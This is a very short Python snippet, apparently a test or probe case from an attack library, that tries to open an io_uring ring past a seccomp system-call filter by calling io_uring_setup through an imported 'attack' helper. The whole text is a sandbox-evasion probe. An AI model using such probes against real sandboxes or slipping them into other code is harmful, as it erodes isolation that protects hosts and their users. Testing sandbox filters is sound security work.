# open a ring past the filter of system calls
# held by: seccomp
import ctypes, os
from attack import call
os.close(call("io_uring_setup", 1, ctypes.create_string_buffer(120)))
